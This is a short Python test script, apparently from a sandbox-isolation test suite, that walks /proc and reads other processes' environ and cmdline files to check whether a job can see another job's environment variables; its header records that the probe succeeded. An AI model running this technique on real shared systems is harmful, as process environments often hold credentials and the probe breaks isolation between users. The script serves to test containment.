# tries: find the environment variables of other jobs
# outcome: succeeded
# victim: yes
from hostile import *
for root, dirs, files in os.walk("/proc"):
    dirs[:] = [d for d in dirs if d not in ("sys", "fs", "bus", "irq", "tty", "task", "map_files", "fd", "ns")]
    for f in files:
        if f in ("environ", "cmdline"):
            try:
                if b"of-victim" in read(os.path.join(root, f), 65536):
                    escaped(os.path.join(root, f))
            except OSError:
                pass
contained()
